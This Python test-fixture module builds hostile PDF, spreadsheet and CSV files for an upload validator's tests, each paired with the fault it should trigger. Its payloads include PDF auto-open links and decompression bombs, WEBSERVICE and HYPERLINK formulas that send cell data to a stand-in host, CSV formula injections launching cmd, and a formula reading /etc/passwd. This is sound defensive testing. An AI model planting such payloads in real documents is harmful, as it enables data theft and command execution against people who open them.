"""More files made to hurt: what reaches out of them unseen, and what is something else besides."""

import io
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

import openpyxl
from openpyxl.workbook.defined_name import DefinedName

from app.documents.domain.files import Fault, FileType
from tests import hostile_files as files
from tests.hostile_files import PAGE, PAGES, F, annotated, changed, pdf, stream, workbook, zipped

LINK = b"<</S/URI/URI(https://example.invalid)>>"
SHEET, RULES = b"</sheetData>", b"<conditionalFormatting sqref='A1'><cfRule type='%s' priority='1'>%s</cfRule></%s>"


@dataclass(frozen=True)
class Hostile:
    """A file, what it is called, and why it is refused."""

    what: str
    name: str
    data: bytes
    fault: Fault
    kind: FileType


def pdfs() -> Iterator[tuple[str, str, bytes, Fault]]:
    """`what`, name, bytes, reason."""
    name = "revisor.pdf"
    for what, made in (
        ("page fetched when opened", pdf(b"/OpenAction" + LINK)),
        ("page fetched after a move", pdf(b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next" + LINK + b">>")),
        ("page fetched when closed", pdf(b"/AA<</WC" + LINK + b">>")),
        ("page fetched when a page is turned", pdf(b"", PAGE[:-2] + b"/AA<</O" + LINK + b">>>>")),
        ("thread of another file", pdf(b"/OpenAction<</S/Thread/F(\\\\host\\a.pdf)/D 0>>")),
        ("stream in another file", pdf(b"", PAGE, PAGES, stream(b"", b"/F(https://example.invalid)"))),
        ("drawing in another file", pdf(b"", PAGE, PAGES, stream(b"", b"/Subtype/Form/Ref<</F(a)/Page 0>>"))),
        ("picture in another file", pdf(b"", PAGE, PAGES, stream(b"", b"/Subtype/Image/OPI<</2.0<</F(a)>>>>"))),
        (
            "link to a thread of another file",
            pdf(b"", annotated(b"/Subtype/Link/A<</S/Thread/F(\\\\host\\a.pdf)/D 0>>")),
        ),
        ("link to a file", pdf(b"", annotated(b"/Subtype/Link/A<</S/URI/URI(file://host/a.exe)>>"))),
        ("link to a share", pdf(b"", annotated(b"/Subtype/Link/A<</S/URI/URI(\\\\\\\\host\\\\a)>>"))),
        ("link that is a script", pdf(b"", annotated(b"/Subtype/Link/A<</S/URI/URI(java\tscript:alert\\(1\\))>>"))),
    ):
        yield what, name, made, F.LAUNCH
    yield "portfolio", name, pdf(b"/Collection<</View/T>>"), F.INSIDE
    bomb = zlib.compress(bytes(files.MEGABYTES * 4), 9)
    spelled = stream(bomb.hex().encode() + b">", b"/Filter[/ASCIIHexDecode/FlateDecode]")
    yield "bomb in letters", name, pdf(b"", PAGE, PAGES, spelled), F.BOMB
    runs = stream(b"\x81\x00" * (files.MEGABYTES * 3 // 128) + b"\x80", b"/Filter/RunLengthDecode")
    yield "bomb in runs", name, pdf(b"", PAGE, PAGES, runs), F.BOMB
    page = pdf().replace(b"%\xe2", b"%<html><script>alert(1)</script>\n%\xe2", 1)
    yield "web page in a remark", name, page, F.TWO_IN_ONE


def ruled(inner: bytes, kind: bytes = b"expression") -> bytes:
    """The plain workbook with a rule for how its first cell looks."""
    with zipfile.ZipFile(io.BytesIO(workbook())) as package:
        sheet = package.read("xl/worksheets/sheet1.xml")
    rule = SHEET + RULES % (kind, inner, b"conditionalFormatting")
    return changed({"xl/worksheets/sheet1.xml": sheet.replace(SHEET, rule)})


def named(text: str) -> bytes:
    """A workbook where a name stands for a formula."""
    book, made = openpyxl.Workbook(), io.BytesIO()
    book.active["A1"] = "=navn"
    book.defined_names["navn"] = DefinedName("navn", attr_text=text)
    book.save(made)
    return made.getvalue()


def with_comment(data: bytes, comment: bytes) -> bytes:
    made = io.BytesIO(data)
    with zipfile.ZipFile(made, "a") as package:
        package.comment = comment
    return made.getvalue()


def with_gap(data: bytes) -> bytes:
    """A part that only those find who read from the beginning: its entry is taken from the directory."""
    extra = io.BytesIO()
    with zipfile.ZipFile(extra, "w") as package:
        package.writestr("xl/hidden.bin", b"x" * 50)
    return extra.getvalue()[: extra.getvalue().index(b"PK\x01\x02")] + data


def workbooks() -> Iterator[tuple[str, str, bytes, Fault]]:
    """`what`, name, bytes, reason."""
    name = "regnskap.xlsx"
    for what, made in (
        ("a name fetches", named('WEBSERVICE("https://example.invalid/"&Sheet!A2)')),
        ("a rule fetches", ruled(b"<formula>WEBSERVICE(&quot;https://example.invalid&quot;)=1</formula>")),
        ("a scale fetches", ruled(b"<colorScale><cfvo type='formula' val='IMAGE(A1)'/></colorScale>", b"colorScale")),
        ("a sheet from an address", workbook(("='https://example.invalid/[x.xlsx]S'!A1", 1))),
        ("a sheet from a share", workbook(("='\\\\host\\s\\[x.xlsx]S'!A1", 1))),
        ("a sheet from a disk", workbook(("='C:\\a\\[x.xlsx]S'!A1", 1))),
        ("a sheet from a book", workbook(("=[1]S!A1", 1))),
        ("an address made as it goes", workbook(('=INDIRECT("\'htt"&"p://example.invalid/[x.xlsx]S\'!A1")', 1))),
        ("a link to a share", workbook(('=HYPERLINK("\\\\srv\\x")', 1))),
        ("a link to a share, in two pieces", workbook(('=HYPERLINK("\\"&"\\srv\\x","Mer")', 1))),
        ("a link to a file", workbook(('=IF(A2,HYPERLINK ("file://srv/x"),HYPERLINK("https://example.invalid"))', 1))),
        ("a link to what a cell says", workbook(("=hyperlink(A2)", "\\\\srv\\x"))),
        ("a picture fetched", workbook(('=_xlfn.IMAGE("https://example.invalid")', 1))),
    ):
        yield what, name, made, F.FORMULA
    for call in ("_xlfn.IMPORTCSV(A1)", "_xlfn._xlws.PY(0,1)", "CUBEVALUE(A1)", "_xludf.IMPORTXML(A1)", "COPILOT (A1)"):
        yield f"calls {call}", name, workbook((f"=SUM(T['#a])+{call}+SUM(T['#b])", 1)), F.FORMULA
    spelled = b"<formula>&#87;EB&#83;ERVICE(A1)</formula>"
    yield "fetches, spelled in numbers", name, ruled(spelled), F.FORMULA
    for what, part, data in (
        ("program inside", "xl/media/a.exe", b"MZ" + bytes(99)),
        ("program that says it is a picture", "xl/media/a.png", b"MZ" + bytes(99)),
        ("PDF inside", "xl/media/a.emf", pdf()),
    ):
        yield what, name, changed({part: data}), F.OBJECTS
    links = {"xl/_rels/Workbook.xml.rels": files.RELS % b"externalLinkPath"}
    share = (files.RELS % b"hyperlink").replace(b"https://example.invalid/x", b"file:///\\\\srv\\x")
    yield "a cell's link to a share", name, changed({"xl/worksheets/_rels/sheet1.xml.rels": share}), F.LINKS
    yield "two parts of one name", name, changed(links), F.BROKEN
    yield "roundabout way", name, changed({"xl/./a.xml": b"<a/>"}), F.BROKEN
    yield "alphabet that hides", name, changed({"xl/a.xml": b"<?xml version='1.0' encoding='cp037'?><a/>"}), F.BROKEN
    yield "PDF in the remark", name, with_comment(workbook(), pdf()), F.TWO_IN_ONE
    yield "web page behind", name, workbook() + b"<html>", F.TWO_IN_ONE
    yield "part outside the directory", name, with_gap(workbook()), F.TWO_IN_ONE
    for what, kind, body, fault in (
        ("a database by another name", "connections", b"<connections/>", F.LINKS),
        ("a program by another name", "externalLink", b"<externalLink/>", F.LINKS),
        ("controls by another name", "control", b"<ocx/>", F.MACRO),
        ("an unknown thing", "somethingNew", b"<a/>", F.OBJECTS),
    ):
        relation = (files.RELS % kind.encode()).replace(b' TargetMode="External"', b"")
        yield what, name, changed({"xl/_rels/a.rels": relation, "xl/c.xml": body}), fault
        if fault is not F.OBJECTS:
            yield what + ", no relation", name, changed({"xl/c.xml": body}), fault
    typed = b'<Override PartName="/xl/%s" ContentType="application/vnd.openxmlformats-officedocument.%s+xml"/></Types>'
    for what, said, fault in (
        ("a database by type", typed % (b"c.xml", b"spreadsheetml.connections"), F.LINKS),
        ("an unknown type", typed % (b"c.xml", b"spreadsheetml.news"), F.OBJECTS),
        ("a sheet that is a picture", typed % (b"media/a.png", b"spreadsheetml.worksheet"), F.BROKEN),
    ):
        yield what, name, changed(types=(b"</Types>", said)), fault
    with zipfile.ZipFile(io.BytesIO(ruled(b"<formula>WEBSERVICE(A1)=1</formula>"))) as package:
        sheet = package.read("xl/worksheets/sheet1.xml")
    for part in ("ark/sheet1.xml", "xl/comments9.xml", "customXml/item1.xml"):
        yield f"a rule fetches in {part}", name, changed({part: sheet}), F.FORMULA
    first = [("a.xml", b"<!--" + pdf() + b"-->")]
    yield "PDF at the beginning", name, zipped(first, zipfile.ZIP_STORED), F.TWO_IN_ONE


def tables() -> Iterator[tuple[str, str, bytes, Fault]]:
    """`what`, name, bytes, reason."""
    for what, cell in (
        ("starts a program", "=cmd|'/c calc'!A0"),
        ("formula", '"=HYPERLINK(""https://example.invalid"")"'),
        ("formula with an at", "@SUM(A1)"),
        ("formula with a plus", '"+HYPERLINK(""https://example.invalid"")"'),
        ("formula with a minus", "-1+cmd|'/c calc'!A0"),
        ("formula behind another separator", "x,=cmd|'/c calc'!A0,y"),
        ("formula behind a tab", "x\t=cmd|'/c calc'!A0"),
        ("formula on the next line", "\"x\n=cmd|'/c calc'!A0\""),
        ("formula behind a sign nobody sees", "\u200b=WEBSERVICE(A1)"),
        ("formula in wide signs", "\uff1dWEBSERVICE(A1)"),
        ("formula that reads a file", "='file:///etc/passwd'#$passwd.A1"),
        ("formula that reads an address", "=[https://example.invalid/x.xls]S!A1"),
        ("formula that reads a cell", "=A1"),
        ("formula with a gap", '"+HYPERLINK (""https://example.invalid"")"'),
    ):
        yield what, "regnskap.csv", f"a;b\n{cell};1\n".encode(), F.CELL
    yield "formula in UTF-16", "regnskap.csv", "a;b\n=cmd|' /c'!A1;å\n".encode("utf-16"), F.CELL
    yield "PDF in the first lines", "regnskap.csv", b"a;b\n%PDF-1.7;1\n", F.NOT_CSV
    yield "web page in the first lines", "regnskap.csv", b"a;b\n<script>x</script>;1\n", F.NOT_CSV


def all_of_them() -> list[Hostile]:
    """Every file, of both modules."""
    made = (
        (FileType.PDF, (*files.pdfs(), *pdfs())),
        (FileType.XLSX, (*files.workbooks(), *workbooks())),
        (FileType.CSV, (*files.tables(), *tables())),
    )
    return [Hostile(what, name, data, fault, kind) for kind, each in made for what, name, data, fault in each]
